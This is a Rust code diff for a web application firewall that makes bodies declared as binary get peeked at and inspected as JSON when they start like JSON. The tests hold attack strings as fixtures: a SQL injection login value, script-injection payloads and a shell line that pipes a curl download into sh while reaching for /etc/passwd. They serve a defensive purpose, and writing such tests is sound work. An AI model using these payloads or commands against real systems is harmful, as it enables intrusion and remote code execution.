@@ -96,6 +96,9 @@ pub struct Exchange {
     pub hold_limit: Option<usize>,
     /// `Content-Type` of the request, kept when its body is held.
     pub content_type: Vec<u8>,
+    /// The held body is declared binary: its first bytes decide (`peek_body`) whether it is
+    /// inspected as a JSON document or let through uninspected.
+    pub peek: bool,
     /// Stage-by-stage notes, kept only when explaining a request (CLI), never in the filter.
     pub trace: Option<Vec<(&'static str, String)>>,
 }
@@ -159,6 +162,7 @@ fn run_headers(
         waf_detected: false,
         hold_limit: None,
         content_type: Vec::new(),
+        peek: false,
         response_extra: Vec::new(),
         trace: traced.then(Vec::new),
     };
@@ -226,7 +230,17 @@ fn after_head(
                 ex.content_type = content_type.map(<[u8]>::to_vec).unwrap_or_default();
                 let limit = waf.body_limit().min(usize::try_from(rules.limits.max_body_bytes).unwrap_or(usize::MAX));
                 ex.hold_limit = Some(limit);
-                ex.note("body", || format!("held for inspection (up to {limit} bytes)"));
+                let peek = crate::waf::Waf::declared_binary(content_type);
+                ex.peek = peek;
+                ex.note("body", || {
+                    if peek {
+                        format!(
+                            "declared binary: held until its first bytes show whether it is JSON (up to {limit} bytes)"
+                        )
+                    } else {
+                        format!("held for inspection (up to {limit} bytes)")
+                    }
+                });
                 verdict = Verdict::Hold;
             }
         }
@@ -235,6 +249,44 @@ fn after_head(
         finish(policy, ex, host);
     }
     verdict
+}
+
+pub use crate::waf::targets::PEEK_WINDOW;
+
+/// What the first bytes of a held body declared binary decided.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Peeked {
+    /// Not decided yet: buffer more.
+    More,
+    /// A JSON document: held and inspected as JSON like any other.
+    Inspect,
+    /// Not JSON (an image, an archive, a file): released uninspected, the rest streams through.
+    Release,
+}
+
+/// Reads the first bytes of a held body declared binary (`prefix`: up to `PEEK_WINDOW` bytes,
+/// `last`: no more will come before the hold ends). A JSON document is inspected as
+/// `application/json`, whatever its declared type: a server that decodes JSON without looking
+/// at `Content-Type` would read it, so the declared type is no way around the WAF. Anything
+/// else is released, as binary bodies were before.
+pub fn peek_body(ex: &mut Exchange, prefix: &[u8], last: bool) -> Peeked {
+    if !ex.peek {
+        return Peeked::Inspect;
+    }
+    let seen = match crate::waf::targets::peek_json(prefix) {
+        crate::waf::targets::Peek::Undecided if !last => return Peeked::More,
+        seen => seen,
+    };
+    ex.peek = false;
+    if seen == crate::waf::targets::Peek::Json {
+        ex.note("body", || "declared binary, starts a JSON document: inspected as JSON".to_string());
+        ex.content_type = b"application/json".to_vec();
+        Peeked::Inspect
+    } else {
+        ex.note("body", || "declared binary, not JSON: released uninspected".to_string());
+        ex.hold_limit = None;
+        Peeked::Release
+    }
 }
 
 /// Runs a whole request (headers, then the body in one piece) the way the proxy-wasm glue
@@ -260,7 +312,10 @@ pub fn evaluate(
         Verdict::Continue => verdict = on_request_body(policy, &mut ex, body.len(), true, host),
         Verdict::Hold => {
             verdict = on_request_body(policy, &mut ex, body.len(), false, host);
-            if verdict == Verdict::Continue {
+            let window = &body[..body.len().min(PEEK_WINDOW)];
+            if verdict == Verdict::Continue && peek_body(&mut ex, window, true) == Peeked::Release {
+                verdict = on_request_body(policy, &mut ex, 0, true, host);
+            } else if verdict == Verdict::Continue {
                 let limit = ex.hold_limit.unwrap_or(usize::MAX);
                 let complete = body.len() <= limit;
                 verdict = on_held_body(policy, &mut ex, &body[..body.len().min(limit)], complete, host);
@@ -811,6 +866,38 @@ mod tests {
             Verdict::Call(_) => 2,
             Verdict::Deny(r) => r.status,
         }
+    }
+
+    #[test]
+    fn a_json_document_under_a_binary_type_is_inspected_and_a_file_is_released() {
+        let p = policy(r#"{"policies": {"default": {"waf": {}}}}"#);
+        let run = |ctype: &str, body: &[u8]| {
+            let host = MemoryHost::at(1_000);
+            let r = req("POST", "/login", &[("content-type", ctype.as_bytes()), ("content-length", b"1")], "192.0.2.1");
+            let (ex, v) = evaluate(&p, &r, Some(body), &host, false);
+            (status(&v), ex.waf_outcome.map(|o| o.total_score).unwrap_or(0))
+        };
+        let attack = br#"{"user": "admin' or '1'='1"}"#;
+        for ctype in ["application/octet-stream", "image/png", "application/grpc", "application/json"] {
+            let (st, score) = run(ctype, attack);
+            assert_eq!(st, 403, "{ctype}");
+            assert!(score >= 5, "{ctype}");
+        }
+        let mut padded = vec![b' '; 600];
+        padded.extend_from_slice(br#"[{"q": "<script>alert(1)</script>"}]"#);
+        assert_eq!(run("application/octet-stream", &padded).0, 403);
+        // Files, images and archives stay uninspected, as binary bodies were before.
+        for body in [
+            &b"#!/bin/sh\ncurl http://x/../../etc/passwd | sh\n"[..],
+            b"{\\rtf1\\ansi <script>alert(1)</script>}",
+            b"[font]\nname=<script>alert(1)</script>\n",
+            b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
+        ] {
+            assert_eq!(run("application/octet-stream", body), (0, 0), "{}", String::from_utf8_lossy(body));
+        }
+        // The held body is let go after its first bytes: a large upload needs no inspection budget.
+        let big = vec![0u8; 4 << 20];
+        assert_eq!(run("application/octet-stream", &big).0, 0);
     }
 
     #[test]
